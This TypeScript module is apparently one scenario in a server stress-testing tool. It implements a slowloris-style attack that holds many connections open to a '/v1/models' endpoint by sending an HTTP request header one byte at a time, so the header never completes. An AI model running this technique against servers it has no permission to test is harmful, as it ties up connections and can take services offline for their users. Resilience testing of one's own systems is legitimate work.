import type { Assault } from '../assault.ts';

/** Sends the head of a request a byte at a time. */
export function slowHeads(assault: Assault): void {
  assault.keep(400, 60, () => {
    const socket = assault.connect(`GET /v1/models HTTP/1.1\r\nhost: ${assault.host}\r\nx-slow: `);
    const timer = setInterval(() => socket.write('x'), 200);
    socket.once('close', () => clearInterval(timer));
    return socket;
  });
}
